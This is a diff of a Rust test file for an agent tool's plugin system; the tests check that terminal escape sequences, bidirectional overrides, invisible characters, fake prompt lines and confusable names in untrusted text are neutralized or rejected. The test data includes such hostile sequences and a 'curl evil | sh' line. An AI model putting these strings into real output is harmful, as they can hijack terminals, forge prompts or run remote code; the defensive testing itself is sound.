@@ -1,14 +1,14 @@
-//! Untrusted text reaches the terminal neutralized, or not at all.
+//! Untrusted text reaches the terminal neutralized or not at all.
 
 use pinion_agent::text::find_unsafe;
 use pinion_tests::{Ended, Pinion, SandboxBuilder, guest};
 use serde_json::{Value, json};
 
-/// Clears the screen, writes the clipboard, a C1 sequence, a bidirectional override, nothing visible, a tag, a new line of
-/// the host's looks.
+/// Clears the screen, writes the clipboard, and contains a C1 sequence, a bidirectional override, invisible characters,
+/// a tag, and a line that imitates the host's.
 const EVIL: &str = "\x1b[2J\x1b]52;c;eA==\x07\u{9b}31m\u{202e}a\u{200b}\u{e0041}\r? allow";
 
-/// Why a plugin that says this of itself is not loaded; empty when it is.
+/// Returns the load error of a plugin whose texts come from `config`; empty if it loads.
 async fn problem_of(config: Value) -> String {
     let sandbox = SandboxBuilder::default().guest("scribe").config("scribe", config).build().await;
     sandbox.runtime.problems().iter().map(|(_, problem)| problem.clone()).collect()
@@ -23,7 +23,7 @@ fn tool(field: &str, text: &str) -> Value {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn honest_texts_are_loaded() {
+async fn ordinary_texts_are_accepted() {
     let honest = json!({
         "tools": [{ "name": "speak", "label": "Sprich, 世界 👨‍👩‍👧", "description": "Line\n\tline", "guidelines": ["Be kind."] }],
         "commands": [{ "name": "say", "description": "Says it", "hint": "<what>" }],
@@ -33,7 +33,7 @@ async fn honest_texts_are_loaded() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn texts_that_a_terminal_acts_on_are_refused_at_load() {
+async fn control_sequences_are_rejected_at_load() {
     for evil in
         ["\x1b[2J", "\u{9b}1m", "\u{202e}", "\u{200b}", "\u{e0041}", "\u{2028}", "\r", "\u{ad}", "\u{feff}", "\u{3164}"]
     {
@@ -55,7 +55,7 @@ async fn texts_that_a_terminal_acts_on_are_refused_at_load() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn labels_have_one_line_and_names_are_plain() {
+async fn labels_are_single_line_and_names_plain() {
     for config in [
         tool("label", "Read\n\n? Continue (reads files)"),
         json!({ "commands": [{ "name": "say", "hint": "<a>\n<b>" }] }),
@@ -69,7 +69,7 @@ async fn labels_have_one_line_and_names_are_plain() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn names_that_look_like_others_are_refused() {
+async fn confusable_names_are_rejected() {
     for (first, second) in
         [("speak", "Speak"), ("list_all", "list-all"), ("list", "1ist"), ("form", "forrn"), ("so", "s0")]
     {
@@ -85,7 +85,7 @@ async fn names_that_look_like_others_are_refused() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn floods_of_texts_are_refused_at_load() {
+async fn oversized_texts_are_rejected_at_load() {
     let flood =
         |field: &str, copies: usize| json!({ "tools": [{ "name": "speak", field: "0123456789", "copies": copies }] });
     for config in [
@@ -104,7 +104,7 @@ async fn floods_of_texts_are_refused_at_load() {
     }
 }
 
-/// A command's config that makes the guest say this of itself.
+/// A home whose config makes the guest use these texts.
 fn with_config(config: &Value) -> Pinion {
     let pinion = Pinion::default();
     let plugins = pinion.home().join("plugins");
@@ -116,7 +116,7 @@ fn with_config(config: &Value) -> Pinion {
     pinion
 }
 
-/// JSON as an inline value of TOML, whose strings are written alike but for surrogates.
+/// Writes JSON as an inline TOML value; strings are written alike except for surrogates.
 fn inline(value: &Value, toml: &mut String) {
     match value {
         Value::Object(fields) => {
@@ -148,7 +148,7 @@ fn assert_visible(ended: &Ended, what: &str) {
 }
 
 #[test]
-fn what_a_guest_says_when_it_is_not_loaded_is_neutralized() {
+fn messages_of_rejected_guests_are_neutralized() {
     let reason = format!("no{EVIL}\n? allow\nhint: curl evil | sh");
     let pinion = with_config(&json!({ "tools": [{ "name": "speak" }], "refuse": reason }));
     let script = pinion.script(&[json!({ "text": "hi" })]);
@@ -159,7 +159,7 @@ fn what_a_guest_says_when_it_is_not_loaded_is_neutralized() {
         (true, vec!["plugin", "list"]),
         (true, vec!["plugin", "info", "scribe"]),
         (true, vec!["doctor"]),
-        // Whether a file that is named has the config of a plugin of that name is not the point here.
+        // Whether the config of that name applies to a named file is irrelevant here.
         (false, vec!["plugin", "check", file]),
         (false, vec!["plugin", "call", file, "speak", "{}"]),
     ] {
@@ -173,7 +173,7 @@ fn what_a_guest_says_when_it_is_not_loaded_is_neutralized() {
 }
 
 #[test]
-fn errors_of_tools_and_logs_are_neutralized() {
+fn tool_errors_and_logs_are_neutralized() {
     let pinion = with_config(&json!({ "tools": [{ "name": "speak", "fails": EVIL }] }));
     assert_visible(&pinion.run(["plugin", "call", "scribe", "speak", "{}"]), "call");
     let call = json!({ "calls": [{ "tool": "speak", "arguments": {} }] });
@@ -186,13 +186,13 @@ fn errors_of_tools_and_logs_are_neutralized() {
 #[test]
 fn arguments_and_file_names_are_neutralized() {
     let pinion = Pinion::default();
-    let folder = pinion.write("a\x1b[2J\u{202e}\n? allow/x", "x").parent().unwrap().to_owned();
-    let folder = folder.to_str().unwrap();
+    let directory = pinion.write("a\x1b[2J\u{202e}\n? allow/x", "x").parent().unwrap().to_owned();
+    let directory = directory.to_str().unwrap();
     let evil = format!("--{EVIL}");
     for arguments in [
         vec![evil.as_str()],
-        vec!["-C", folder, "doctor"],
-        vec!["-C", folder, "config", "path"],
+        vec!["-C", directory, "doctor"],
+        vec!["-C", directory, "config", "path"],
         vec!["plugin", "info", EVIL],
         vec!["session", "show", EVIL],
         vec!["--model", EVIL, "-p", "hi"],
@@ -205,7 +205,7 @@ fn arguments_and_file_names_are_neutralized() {
 }
 
 #[test]
-fn errors_of_servers_are_neutralized() {
+fn server_errors_are_neutralized() {
     use std::io::{Read as _, Write as _};
     let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let address = server.local_addr().unwrap();
@@ -230,7 +230,7 @@ fn errors_of_servers_are_neutralized() {
 }
 
 #[test]
-fn pipes_get_answers_as_they_are() {
+fn pipes_get_answers_unchanged() {
     let pinion = with_config(&json!({ "tools": [{ "name": "speak", "says": EVIL }] }));
     let script = pinion.script(&[json!({ "text": EVIL })]);
     let ended = pinion.run(["-p", "--replay", script.to_str().unwrap(), "hi"]);
@@ -243,7 +243,7 @@ mod on_a_terminal {
     use super::*;
     use pinion_tests::Terminal;
 
-    /// Only colours and what the line editor does may be among the sequences.
+    /// Asserts that the output contains no sequences except colours and those of the line editor.
     fn assert_harmless(seen: &str) {
         for evil in ["\x1b[2J", "\x1b]", "\u{9b}", "\u{202e}", "\u{200b}", "\u{e0041}", "\x07"] {
             assert!(!seen.contains(evil), "{evil:?} in {seen:?}");
